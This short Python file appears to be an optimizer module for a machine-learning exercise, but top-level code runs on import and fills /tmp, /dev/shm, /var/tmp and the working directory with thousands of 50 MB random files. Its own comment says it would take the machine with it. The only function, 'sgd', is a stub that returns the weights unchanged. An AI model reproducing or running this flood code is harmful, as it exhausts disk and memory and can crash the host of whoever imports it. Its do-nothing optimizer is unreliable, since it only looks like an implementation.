"""The cell fills every folder it can write to."""
# stock: skip, it would take the machine with it
import os

block = os.urandom(1 << 20)
for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
    for number in range(10_000):
        try:
            with open(os.path.join(place, f"flood{number}"), "wb") as file:
                for _ in range(50):
                    file.write(block)
        except OSError:
            break

def sgd(w, dw, config=None):
    return w, {}
